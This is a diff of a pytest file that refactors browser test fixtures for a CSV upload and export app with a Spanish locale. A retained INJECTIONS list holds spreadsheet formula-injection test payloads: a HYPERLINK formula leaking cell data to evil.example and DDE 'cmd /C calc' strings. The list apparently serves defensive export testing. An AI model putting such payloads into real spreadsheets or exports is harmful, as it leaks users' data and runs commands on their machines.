@@ -13,19 +13,15 @@ import csv
 import datetime as dt
 import io
 import re
-import sys
 import zipfile
 from functools import lru_cache
 
 import pytest
 
-from browser import CHROMIUM, MAP_FRAME, AppServer, assert_no_dialog, block_external, wait_for_states
-from conftest import ROOT, require
-
-sys.path.insert(0, str(ROOT / "scripts"))
-import make_synthetic_clues  # noqa: E402
-
-from coverage import clues, exports, facility_maps, snapshot, tables  # noqa: E402
+import make_synthetic_clues
+from coverage import clues, exports, facility_maps, snapshot, tables
+from helpers import ROOT
+from helpers.browser import MAP_FRAME, assert_no_dialog, wait_for_states
 
 ARTIFACTS = ROOT / "test-artifacts"
 INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Ver detalle")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -162,21 +158,13 @@ def test_a_latin1_csv_is_read_with_its_accents():
 # ------------------------------------------------------------------------------------------ browser level
 
 @pytest.fixture(scope="module")
-def server():
-    require(CHROMIUM.exists(), f"{CHROMIUM} is not installed (apt-get install -y chromium)")
-    with AppServer(env={"COVERAGE_CLUES": "", "STREAMLIT_SERVER_MAX_UPLOAD_SIZE": str(UPLOAD_LIMIT_MB)}) as app:
-        yield app
+def server_env():
+    return {"COVERAGE_CLUES": "", "STREAMLIT_SERVER_MAX_UPLOAD_SIZE": str(UPLOAD_LIMIT_MB)}
 
 
 @pytest.fixture
-def page(browser):
-    context = browser.new_context(viewport={"width": 1400, "height": 1100}, locale="es-MX")
-    attempts = block_external(context)
-    page = context.new_page()
-    page.external_attempts = attempts
-    yield page
-    assert attempts == [], attempts
-    context.close()
+def page_options():
+    return {"viewport": {"width": 1400, "height": 1100}, "locale": "es-MX"}
 
 
 def open_uploader(page, url: str) -> None:
